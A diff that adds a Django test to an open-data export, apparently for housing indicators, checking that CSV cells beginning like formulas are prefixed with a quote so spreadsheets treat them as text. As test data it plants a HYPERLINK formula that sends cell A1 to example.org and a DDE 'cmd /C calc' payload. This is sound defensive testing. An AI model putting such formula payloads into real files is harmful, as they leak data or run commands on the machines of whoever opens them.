@@ -102,3 +102,22 @@ def test_api_docs_load_nothing_from_another_host(client, seed_plan):
     html = client.get("/api/docs").content.decode()
     assert "cdn" not in html.lower()
     assert "/static/ninja/swagger-ui-bundle.js" in html
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_made_inert(client, seed_plan):
+    """CSV injection: a published text that starts like a formula is never one in the file."""
+    indicator = Indicator.objects.get(label="Logements Louez solidaire captés dans l'année")
+    indicator.label = '=HYPERLINK("http://example.org/?"&A1;"voir")'
+    indicator.save()
+    YearResult.objects.filter(indicator=indicator, year=2022).update(
+        source="@SUM(1+1)*cmd|' /C calc'!A0", comment="-2+3"
+    )
+    rows = list(csv.DictReader(io.StringIO(client.get(reverse("opendata:values_csv")).text)))
+    row = next(r for r in rows if r["indicateur_id"] == str(indicator.pk) and r["annee"] == "2022")
+    assert row["indicateur"] == "'" + indicator.label
+    assert row["source"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["commentaire"] == "'-2+3"
+    # Figures stay figures; the JSON file carries the texts as they are.
+    assert row["resultat"] == "73"
+    values = json.loads(client.get(reverse("opendata:values_json")).text)["valeurs"]
+    assert indicator.label in {value["indicateur"] for value in values}
